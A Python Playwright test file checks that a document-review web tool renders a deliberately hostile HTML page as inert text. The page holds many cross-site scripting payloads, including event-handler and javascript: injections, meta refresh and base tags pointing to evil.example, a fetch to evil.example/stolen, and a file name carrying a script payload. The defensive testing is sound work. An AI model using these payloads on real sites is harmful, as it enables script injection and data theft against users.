"""A page that attacks its reviewer shows as text and does nothing."""

from collections.abc import Callable
from typing import Any

from playwright.sync_api import BrowserContext, Page, expect

from tests.review.workplace import Workplace

EVIL = "http://evil.example"
GRAB = "document.title='GEKAPERT'"
ROWS = "".join(f"<tr><td>Zeile {row}</td>{'<td>x</td>' * 30}</tr>" for row in range(300))
STYLE = f"@import url({EVIL}/b.css); * {{ display: none !important }} body {{ background: url({EVIL}/c.png) }}"
PAGE = f"""<html><head><title>"><script>{GRAB}</script></title>
<meta name="author" content="&quot;><img src=x onerror={GRAB}>">
<meta http-equiv="refresh" content="0;url={EVIL}/"><base href="{EVIL}/"><link rel="stylesheet" href="{EVIL}/a.css">
<style>{STYLE}</style></head>
<body onload="{GRAB}"><article><h1>Neue Leitung {{{{ 7*7 }}}}</h1>
<script>{GRAB}; fetch('{EVIL}/stolen')</script>
<iframe src="{EVIL}/frame" srcdoc="<script>parent.{GRAB}</script>"></iframe>
<p>Claus Scheller leitet seit heute &lt;script&gt;{GRAB}&lt;/script&gt; das Amt der Stadt Worms.</p>
<p onmouseover="{GRAB}">F&uuml;r Fragen steht er unter Telefon 06241 853-1060 zur Verf&uuml;gung.</p>
<p>Ein Bild &lt;img src=x onerror=alert(1)&gt; zeigt die Stadt Worms, wie sie heute aussieht.</p>
<p>Mehr unter <a href="javascript:{GRAB}">javascript:alert(1)</a> und {EVIL}/mehr sowie <a href="{EVIL}/">hier</a>.</p>
<svg onload="{GRAB}"><a href="javascript:alert(1)"><text>Bild</text></a></svg>
<form action="{EVIL}/form"><input name="x" autofocus onfocus="{GRAB}"><button>Absenden</button></form>
<table>{ROWS}</table>
<p>Umkehrung \u202egnuk\u202c und Null&#0;zeichen, &lt;/span&gt;&lt;/pre&gt;&lt;/template&gt; " ' ` ]]&gt; --&gt;</p>
</article></body></html>"""
FORBIDDEN = (
    "iframe, img, svg, base, object, embed, meta[http-equiv], #source a, #record a:not([href^='#']), #source form, "
    "#source style"
)
HANDLERS = "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith('on'))"
FOREIGN_LINKS = "[...document.querySelectorAll('a')].filter((a) => a.origin !== location.origin).length"


def test_a_hostile_page_does_nothing(
    place: Workplace, serve: Callable[..., Any], context: BrowserContext, page: Page
) -> None:
    place.write('"><img src=x onerror=alert(1)>.html', PAGE)
    place.run()
    served = serve(place.desk())
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in ("/", "/groups", "/?text=%22%3E%3Cscript%3E&publisher=%3Cimg%20src%3Dx%3E"):
        page.goto(f"{served.url}{path}")
    page.goto(f"{served.url}/?text=onerror")
    page.locator("a.title").first.click()
    expect(page.locator(".stop.current")).to_be_visible()  # the scripts are at work
    page.locator("#source .mark.people").first.hover()
    page.keyboard.press("h")
    expect(page.locator("#source")).to_contain_text("<script>document.title='GEKAPERT'</script>")
    expect(page.locator("#source")).to_contain_text("{{ 7*7 }}")
    page.keyboard.press("a")
    expect(page.locator(".stop.accept").first).to_be_visible()
    page.keyboard.press("v")
    expect(page.locator("#source pre")).to_contain_text("<iframe src=")
    page.locator("#source pre").click(position={"x": 20, "y": 200})
    page.wait_for_timeout(300)

    assert "GEKAPERT" not in page.title() or "<script>" in page.title()
    assert page.evaluate("document.title") != "GEKAPERT"
    assert dialogs == []
    assert [url for url in asked if not url.startswith(f"{served.url}/")] == []
    assert page.url.startswith(f"{served.url}/documents/")
    assert page.locator(FORBIDDEN).count() == 0
    assert page.evaluate(HANDLERS) == []
    assert page.evaluate(FOREIGN_LINKS) == 0
